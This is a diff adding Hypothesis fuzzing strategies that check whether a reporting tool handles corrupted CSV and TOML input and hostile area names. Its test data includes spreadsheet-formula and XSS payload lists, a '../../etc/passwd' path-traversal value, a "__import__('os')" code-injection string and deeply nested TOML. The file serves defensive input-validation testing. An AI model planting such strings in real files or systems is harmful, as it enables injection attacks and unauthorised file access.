+                                  period=period, item=item, value=value, flag=flag,
+                                  expect=row.expect, fault=row.fault))  # fmt: skip
+    text = newline.join(lines) + newline
+    encoding = "utf-8-sig" if "bom" in faults else "utf-8"
+    if "cp1252" in faults:
+        try:
+            text.encode("cp1252")
+            encoding = "cp1252"
+        except UnicodeEncodeError:
+            pass
+    areas_mode = draw(st.sampled_from(["none", "example", "one_group", "own_groups", "payload"]))
+    present = sorted({row.truth[0] for row in rows}) or chosen
+    table = {area: (area, name, group) for area, name, group in example_areas()}
+    areas: list[tuple[str, str, str]] | None = None
+    if areas_mode == "example":
+        areas = [table.get(area, (area, area, "")) for area in present]
+    elif areas_mode == "one_group":
+        areas = [(area, area, "All") for area in present]
+    elif areas_mode == "own_groups":
+        areas = [(area, area, f"Group of {area}") for area in present]
+    elif areas_mode == "payload":
+        areas = [(area, draw(hostile_texts), draw(st.sampled_from((*FORMULA_PAYLOADS, ""))))
+                 for area in present]  # fmt: skip
+    deflators: dict[str, float] | None = None
+    base_period: str | None = None
+    if draw(st.booleans()):
+        deflators = {f"{y}-{(y + 1) % 100:02d}": 80.0 + 2 * (y - 2015) for y in range(2010, 2025)}
+        if draw(st.booleans()):
+            deflators.pop(draw(st.sampled_from(sorted(deflators))))
+        base_period = draw(st.sampled_from([*sorted(labels), "2030-31", "2009-10"]))
+        parse_period(base_period)
+    return FaultyDataset(
+        text=text, encoding=encoding, rows=planted, areas=areas, deflators=deflators,
+        base_period=base_period,
+        confidence=draw(st.sampled_from([0.5, 0.8, 0.9, 0.95, 0.99, 0.999, 0.9999])),
+        suppress_below=draw(st.sampled_from([None, 0, 1, 5, 10**9])), faults=faults,
+    )  # fmt: skip
+
+
+def csv_field(text: str) -> str:
+    """One CSV cell, quoted when it holds a comma, a quote or a line break of either kind."""
+    if any(c in text for c in ',"\r\n'):
+        return '"' + text.replace('"', '""') + '"'
+    return text
+
+
+# --- Hostile TOML: assessments and indicator definitions --------------------------------------
+
+
+class RawToml(str):
+    """TOML text written as it is (arrays nested thousands deep, say)."""
+
+    __slots__ = ()
+
+
+def toml_literal(value: object) -> str:
+    """Any value tomllib reads, as TOML: tables inline, dates and times, infinities."""
+    if isinstance(value, RawToml):
+        return str(value)
+    if isinstance(value, dt.datetime | dt.date | dt.time):
+        return value.isoformat()
+    if isinstance(value, float) and not math.isfinite(value):
+        return "nan" if math.isnan(value) else "inf" if value > 0 else "-inf"
+    if isinstance(value, list):
+        return "[" + ", ".join(toml_literal(element) for element in value) + "]"
+    if isinstance(value, dict):
+        pairs = (f"{toml_value(str(k))} = {toml_literal(v)}" for k, v in value.items())
+        return "{ " + ", ".join(pairs) + " }"
+    return toml_value(value)
+
+
+def toml_text(document: dict[str, object], arrays: Sequence[str] = ()) -> str:
+    """A document as TOML: top-level keys one a line, and the arrays named in ``arrays``
+    as arrays of tables (``[[indicator]]``)."""
+    lines = [f"{toml_value(str(key))} = {toml_literal(value)}"
+             for key, value in document.items() if key not in arrays]  # fmt: skip
+    for name in arrays:
+        entries = document.get(name)
+        for entry in entries if isinstance(entries, list) else []:
+            lines.append(f"\n[[{name}]]")
+            if isinstance(entry, dict):
+                lines += [f"{toml_value(str(k))} = {toml_literal(v)}" for k, v in entry.items()]
+    return "\n".join(lines) + "\n"
+
+
+Path_ = tuple[str | int, ...]
+"""Where a value is in a TOML document: keys and list positions from the top."""
+
+
+def toml_paths(document: object, path: Path_ = ()) -> list[Path_]:
+    """Every place in a document below the top, containers included."""
+    found: list[Path_] = [path] if path else []
+    if isinstance(document, dict):
+        for key, value in document.items():
+            found += toml_paths(value, (*path, key))
+    elif isinstance(document, list):
+        for position, value in enumerate(document):
+            found += toml_paths(value, (*path, position))
+    return found
+
+
+def toml_get(document: object, path: Path_) -> object:
+    for step in path:
+        document = document[step]  # type: ignore[index]
+    return document
+
+
+def toml_set(document: object, path: Path_, value: object) -> None:
+    parent = toml_get(document, path[:-1])
+    parent[path[-1]] = value  # type: ignore[index]
+
+
+def toml_delete(document: object, path: Path_) -> None:
+    parent = toml_get(document, path[:-1])
+    del parent[path[-1]]  # type: ignore[attr-defined]
+
+
+#: Values of every TOML type, hostile or not, for retyping a key.
+hostile_toml_values: st.SearchStrategy[object] = st.one_of(
+    _values,
+    hostile_texts,
+    st.sampled_from([0, -1, 2**63 - 1, 2**70, -(2**70), 1e308, math.inf, -math.inf, math.nan,
+                     True, False, "", " ", [], {}, [[]], {"": ""}]),
+    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)),
+    st.sampled_from([dt.time(12, 30), dt.datetime(2025, 9, 24, 10, 0, tzinfo=dt.UTC),
+                     dt.datetime(2025, 9, 24, 10, 0)]),
+    st.integers(min_value=2, max_value=3000).map(lambda d: RawToml("[" * d + "]" * d)),
+    st.integers(min_value=2, max_value=3000).map(lambda d: RawToml("{a=" * d + "1" + "}" * d)),
+    st.integers(min_value=1, max_value=200_000).map(lambda n: "<b>" + "x" * n),
+)  # fmt: skip
+
+
+def _raw_damage(draw: st.DrawFn, data: bytes) -> tuple[bytes, str]:
+    """Damage the bytes of a TOML file as an editor or a transfer might; with what was done."""
+    import re
+
+    kind = draw(st.sampled_from(["bytes", "truncate", "bom", "crlf", "nul", "bad_date",
+                                 "huge"]))  # fmt: skip
+    import random
+
+    at = random.Random(draw(st.integers(0, 2**32))).randint(0, len(data))  # not mostly at 0
+    if kind == "bytes":
+        junk = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\x80", "é".encode("cp1252"),
+                                     b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]))  # fmt: skip
+        damaged, done = data[:at] + junk + data[at:], f"{junk!r} at byte {at}"
+    elif kind == "truncate":
+        damaged, done = data[:at], f"cut at byte {at}"
+    elif kind == "bom":
+        damaged, done = b"\xef\xbb\xbf" + data, "byte-order mark"
+    elif kind == "crlf":
+        damaged, done = data.replace(b"\n", b"\r\n"), "CRLF line endings"
+    elif kind == "nul":
+        damaged, done = data[:at] + b"\x00" + data[at:], f"NUL at byte {at}"
+    elif kind == "bad_date":
+        wrong = draw(st.sampled_from([b"2025-02-30", b"2025-13-01", b"0000-00-00", b"2025-9-4"]))
+        damaged = re.sub(rb"\d{4}-\d{2}-\d{2}", wrong, data, count=1)
+        done = f"date {wrong!r}"
+    else:
+        damaged = data + b"# " + b"x" * (11 * 1024 * 1024) + b"\n"
+        done = "larger than 10 MB"
+    return damaged, done
+
+
+@dataclasses.dataclass
+class MutatedToml(ShortRepr):
+    """TOML files after mutation (name -> bytes), what was done, and every text put into a
+    string that a report or page must show inert."""
+
+    files: dict[str, bytes]
+    mutations: list[str]
+    payloads: list[str]
+
+    def __repr__(self) -> str:
+        return f"MutatedToml(files={sorted(self.files)}, mutations={self.mutations!r:.2000})"
+
+
+@functools.cache
+def _example_toml(kind: str) -> dict[str, dict[str, object]]:
+    import tomllib
+
+    from outcomes.core._resources import bundled_path
+
+    folder = bundled_path("example") / "assessments" if kind == "assessments" else (
+        bundled_path("indicators"))  # fmt: skip
+    return {path.name: tomllib.loads(path.read_text(encoding="utf-8"))
+            for path in sorted(folder.glob("*.toml"))}  # fmt: skip
+
+
+def _mutate(draw: st.DrawFn, document: dict[str, object], kind: str) -> tuple[str, str | None]:
+    """One mutation of ``document`` in place: what was done, and the text put in if any."""
+    paths = toml_paths(document)
+    strings = [p for p in paths if isinstance(toml_get(document, p), str)]
+    prose = [p for p in strings if _FREE_TEXT.intersection(map(str, p))]
+    if kind == "prose" and prose:
+        strings = prose
+        kind = "payload"
+    if not paths:
+        return "nothing to change in an empty document", None
+    if kind == "payload" and strings:
+        path = draw(st.sampled_from(strings))
+        payload = draw(st.one_of(st.sampled_from(XSS_PAYLOADS + FORMULA_PAYLOADS),
+                                 hostile_texts))  # fmt: skip
+        toml_set(document, path, payload)
+        return f"payload at {path}: {payload!r}", payload
+    path = draw(st.sampled_from(paths))
+    if kind == "drop":
+        toml_delete(document, path)
+        return f"dropped {path}", None
+    if kind == "unknown_key":
+        tables = [p for p in [(), *paths] if isinstance(toml_get(document, p), dict)]
+        where = draw(st.sampled_from(tables))
+        key = draw(st.one_of(hostile_texts, st.sampled_from(["narative", "grades", "stauts"])))
+        table = toml_get(document, where)
+        assert isinstance(table, dict)
+        table[key] = draw(hostile_toml_values)
+        return f"unknown key {key!r} in {where}", None
+    if kind == "duplicate":
+        arrays = [p for p in paths if isinstance(toml_get(document, p), list)
+                  and toml_get(document, p)]  # fmt: skip
+        if arrays:
+            target = toml_get(document, draw(st.sampled_from(arrays)))
+            assert isinstance(target, list)
+            target.append(target[draw(st.integers(0, len(target) - 1))])
+            return f"duplicated an element of {path}", None
+    value = draw(hostile_toml_values)
+    toml_set(document, path, value)
+    shown = repr(value) if len(repr(value)) < 80 else repr(value)[:77] + "..."
+    return f"set {path} = {shown}", value if isinstance(value, str) else None
+
+
+_ASSESSMENT_MUTATIONS = ("payload", "prose", "prose", "drop", "retype", "unknown_key",
+                         "duplicate", "grade", "date", "status")  # fmt: skip
+#: Keys whose text is prose for people (shown in reports), not a code or a date.
+_FREE_TEXT = frozenset({
+    "introduction", "governance", "public_protection", "resources", "workforce", "answer",
+    "text", "reason", "action", "owner", "comment", "evidence", "peer_name", "strengths",
+    "improvements", "documents", "people_met", "data_examined", "title", "description",
+    "source", "unit",
+})  # fmt: skip
+
+
+@st.composite
+def mutated_assessments(draw: st.DrawFn) -> MutatedToml:
+    """One of the bundled example assessments with keys dropped, retyped or added, payloads
+    in its text, grades and dates out of range, and sometimes its bytes damaged."""
+    import copy
+
+    name = draw(st.sampled_from(sorted(_example_toml("assessments"))))
+    document = copy.deepcopy(_example_toml("assessments")[name])
+    mutations: list[str] = []
+    payloads: list[str] = []
+    kinds = st.sampled_from(["prose"] if draw(st.booleans()) else _ASSESSMENT_MUTATIONS)
+    for kind in draw(st.lists(kinds, min_size=1, max_size=4)):
+        paths = toml_paths(document)
+        grades = [p for p in paths if p and p[-1] == "grade"]
+        dates = [p for p in paths if isinstance(toml_get(document, p), dt.date)]
+        if kind == "grade" and grades:
+            path = draw(st.sampled_from(grades))
+            value = draw(st.sampled_from([0, 7, -1, 3.5, "4", True, 2**63, 2**70, 99]))
+            toml_set(document, path, value)
+            mutations.append(f"grade at {path} = {value!r}")
+        elif kind == "date" and dates:
+            path = draw(st.sampled_from(dates))
+            value = draw(st.sampled_from([dt.date(1, 1, 1), dt.date(9999, 12, 31),
+                                          dt.date(1990, 1, 1), "2025-09-24", 20250924,
+                                          dt.datetime(2025, 9, 24, 10, 0, tzinfo=dt.UTC),
+                                          dt.time(9, 30)]))  # fmt: skip
+            toml_set(document, path, value)
+            mutations.append(f"date at {path} = {value!r}")
+        elif kind == "status":
+            document["status"] = draw(st.sampled_from(["draft", "peer_assessed", "published",
+                                                       "final", "Published", ""]))  # fmt: skip
+            mutations.append(f"status = {document['status']!r}")
+        else:
+            done, payload = _mutate(draw, document, kind)
+            mutations.append(done)
+            payloads += [payload] if payload is not None else []
+    data = toml_text(document).encode("utf-8")
+    if draw(st.integers(0, 5)) == 0:
+        data, done = _raw_damage(draw, data)
+        mutations.append(done)
+    return MutatedToml(files={name: data}, mutations=mutations, payloads=payloads)
+
+
+_CATALOGUE_MUTATIONS = ("payload", "payload", "drop", "retype", "unknown_key", "duplicate",
+                        "multiplier", "recommendations", "limits", "move_item", "remove_file",
+                        "extra_files", "unknown_table", "rename_item")  # fmt: skip
+_FILE_MUTATIONS = ("remove_file", "extra_files", "unknown_table", "move_item", "rename_item")
+_CATALOGUE_TRAPS: dict[str, list[object]] = {
+    "multiplier": ["1e999", "0", "-1", "1000/0", "1e12", "1e13", "1e-10", "(1000)", "1000/52",
+                   1e300, math.inf, math.nan, "1_000", "\u0661\u0660\u0660\u0660", True, "1000*",
+                   "10**3", "__import__('os')", 0.5, 2**70],
+    "recommendations": [[0], [14], [], [1, 1], ["1"], [1.5], [2**70], 11, [-1], [[1]]],
+    "materiality": [math.nan, -0.1, 1, 0.999, "0.1", math.inf, 1e-300],
+    "disclosure_threshold": [-1, 1.5, 2**70, True, "5", 0, 10**9],
+    "aliases": [{"lgbf": 5}, "SW1", {"=x": "<script>"}, {"": ""}, [], {"a": {"b": "c"}}],
+    "period_type": ["financial_year ", "Financial_Year", "fy", ""],
+}  # fmt: skip
+
+
+def _mutate_files(draw: st.DrawFn, files: dict[str, dict[str, object]], kind: str) -> str:
+    """Remove, add, move or rename across the catalogue's files, in place: what was done."""
+    name = draw(st.sampled_from(sorted(files)))
+    document = files[name]
+    items = document.get("item")
+    done = f"nothing to {kind} in {name}"
+    if kind == "remove_file":
+        del files[name]
+        done = f"removed {name}"
+    elif kind == "extra_files":
+        extra = draw(st.sampled_from(["empty.toml", "notes.txt", "sub/copy.toml"]))
+        files[extra] = {} if extra == "empty.toml" else dict(document)
+        done = f"added {extra}"
+    elif kind == "unknown_table":
+        table = draw(st.sampled_from(["indicators", "Indicator", "meta", "indicator"]))
+        document[table] = {"id": "X"} if table == "indicator" else [{"id": "X"}]
+        done = f"table [{table}] in {name}"
+    elif kind == "move_item" and isinstance(items, list) and items:
+        moved = items.pop(draw(st.integers(0, len(items) - 1)))
+        other = files[draw(st.sampled_from(sorted(files)))].setdefault("item", [])
+        if isinstance(other, list):
+            other.append(moved)
+        done = f"moved an item out of {name}"
+    elif kind == "rename_item" and isinstance(items, list) and items:
+        entry = draw(st.sampled_from(items))
+        if isinstance(entry, dict):
+            entry["name"] = str(entry.get("name", "")) + "_renamed"
+        done = f"renamed an item of {name}"
+    return done
+
+
+def _mutate_entry(draw: st.DrawFn, files: dict[str, dict[str, object]], kind: str) -> str:
+    """Change one ``[[indicator]]`` or ``[[item]]`` entry in place: what was done."""
+    name = draw(st.sampled_from(sorted(files)))
+    document = files[name]
+    tables = [document.get("indicator"), document.get("item")]
+    entries = [e for t in tables if isinstance(t, list) for e in t if isinstance(e, dict)]
+    if not entries:
+        return f"nothing to change in {name}"
+    entry = draw(st.sampled_from(entries))
+    if not entry:
+        return f"an empty entry of {name} left as it is"
+    key = draw(st.sampled_from(sorted(entry)))
+    trap = kind if kind in ("multiplier", "recommendations") else None
+    if kind == "limits":
+        trap = draw(st.sampled_from(["materiality", "disclosure_threshold", "aliases",
+                                     "period_type"]))  # fmt: skip
+    if trap is not None and "id" in entry:
+        entry[trap] = draw(st.sampled_from(_CATALOGUE_TRAPS[trap]))
+        done = f"{name}: {entry.get('id')!r}.{trap} = {entry[trap]!r}"
+    elif kind == "drop":
+        del entry[key]
+        done = f"{name}: dropped {key!r}"
+    elif kind == "duplicate":
+        target = tables[0] if "id" in entry else tables[1]
+        if isinstance(target, list):
+            target.append(dict(entry))
+        done = f"{name}: duplicated {entry.get('id', entry.get('name'))!r}"
+    elif kind == "unknown_key":
+        entry[draw(st.one_of(hostile_texts, st.sampled_from(["titel", "polarity_"])))] = 1
+        done = f"{name}: unknown key"
+    else:
+        entry[key] = draw(hostile_toml_values)
+        done = f"{name}: {key!r} retyped"
+    return done
+
+
+@st.composite
+def mutated_catalogues(draw: st.DrawFn) -> MutatedToml:
+    """The bundled indicator files with keys dropped, retyped or added, payloads in text,
+    impossible multipliers, recommendations and limits, entries duplicated or moved, files
+    removed or added, and sometimes bytes damaged."""
+    import copy
+
+    files = copy.deepcopy(_example_toml("indicators"))
+    mutations: list[str] = []
+    payloads: list[str] = []
+    kinds = st.sampled_from(["prose"] if draw(st.booleans()) else _CATALOGUE_MUTATIONS)
+    for kind in draw(st.lists(kinds, min_size=1, max_size=4)):
+        if not files:
+            break
+        if kind in ("payload", "prose", "retype"):
+            name = draw(st.sampled_from(sorted(files)))
+            done, payload = _mutate(draw, files[name], kind)
+            mutations.append(f"{name}: {done}")
+            payloads += [payload] if payload is not None else []
+        else:
+            mutate = _mutate_files if kind in _FILE_MUTATIONS else _mutate_entry
+            mutations.append(mutate(draw, files, kind))
+    written = {name: toml_text(document, arrays=("indicator", "item")).encode("utf-8")
+               for name, document in files.items()}  # fmt: skip
+    if written and draw(st.integers(0, 5)) == 0:
+        name = draw(st.sampled_from(sorted(written)))
+        written[name], done = _raw_damage(draw, written[name])
+        mutations.append(f"{name}: {done}")
+    return MutatedToml(files=written, mutations=mutations, payloads=payloads)
+
+
+# --- Hostile names: areas whose every text a spreadsheet or browser would run -------------------
+
+
+@dataclasses.dataclass
+class PayloadAreas:
+    """An areas table of real areas, some renamed, named and grouped with payloads; the
+    renames (example area -> area as written); and a value with more significant digits
+    than a spreadsheet shows, put in the data of the first renamed area."""
+
+    areas: list[tuple[str, str, str]]
+    renamed: dict[str, str]
+    long_value: float
+
+
+_AREA_PAYLOADS = (
+    *(tidy_text(p) for p in FORMULA_PAYLOADS + XSS_PAYLOADS),
+    "../../etc/passwd", "..", "CON", "a/b\\c", "Ünïcödé Cöüncil", "日本 Council", "x" * 200,
+)  # fmt: skip
+
+
+@st.composite
+def payload_areas(draw: st.DrawFn) -> PayloadAreas:
+    """Five to eight example areas, one to three of them renamed to formula, markup or path
+    payloads, with payload names and family groups."""
+    table = list(example_areas())
+    chosen = draw(st.lists(st.sampled_from(table), min_size=5, max_size=8, unique=True))
+    count = draw(st.integers(min_value=1, max_value=3))
+    names = draw(st.lists(st.sampled_from(_AREA_PAYLOADS), min_size=count, max_size=count,
+                          unique=True))  # fmt: skip
+    renamed = {area: name for (area, _, _), name in zip(chosen, names, strict=False)}
+    group = draw(st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS)).strip()
+    areas = [
+        (renamed.get(area, area),
+         draw(st.one_of(st.just(name), st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS)))
+         .strip() or name,
+         draw(st.sampled_from([family_group, group])))
+        for area, name, family_group in chosen
+    ]  # fmt: skip
+    long_value = draw(st.sampled_from([123456.789012345, 98765.4321098765, 1234567890123.0,
+                                       0.1 + 0.2]))  # fmt: skip
+    return PayloadAreas(areas=areas, renamed=renamed, long_value=long_value)
